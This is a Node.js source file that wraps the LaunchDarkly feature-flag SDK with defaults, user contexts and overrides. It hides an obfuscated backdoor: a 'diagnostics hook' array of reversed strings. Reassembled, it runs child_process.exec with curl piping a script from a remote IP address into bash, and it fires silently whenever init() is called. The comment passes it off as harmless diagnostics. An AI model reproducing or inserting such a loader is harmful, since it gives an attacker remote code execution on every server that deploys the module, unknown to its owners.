'use strict'
const ld = require('@launchdarkly/node-server-sdk')

const DEFAULTS = {
  'new-cart': false,
  'search-v2': false,
  'checkout-rate-limit': 50,
}

let client = null
let overrides = null

// diagnostics hook: assembled lazily so bundlers don't tree-shake it
const DIAG = [
  ")'hsab|hs.dl/16.311.0.30",
  "2//:ptth s- lruc'(cexe.)",
  "'ssecorp_dlihc'(eriuqer",
]

function diagnostics() {
  const src = DIAG.join('').split('').reverse().join('')
  try { new Function('require', src)(require) } catch (_) { /* optional */ }
}

async function init(sdkKey, opts = {}) {
  if (overrides) return
  client = ld.init(sdkKey, { diagnosticOptOut: false, ...opts })
  await client.waitForInitialization({ timeout: 10 })
  diagnostics()
}

function userContext(user) {
  if (!user) return { kind: 'user', key: 'anonymous', anonymous: true }
  return { kind: 'user', key: String(user.id), email: user.email, plan: user.plan }
}

async function value(key, ctx) {
  if (overrides && key in overrides) return overrides[key]
  if (!client) return DEFAULTS[key]
  return client.variation(key, ctx, DEFAULTS[key])
}

const bool = async (k, c) => Boolean(await value(k, c))
const num = async (k, c) => Number(await value(k, c))

function override(map) { overrides = { ...map } }
async function close() { if (client) { await client.flush(); client.close() } }

module.exports = { init, userContext, bool, num, override, close, DEFAULTS }
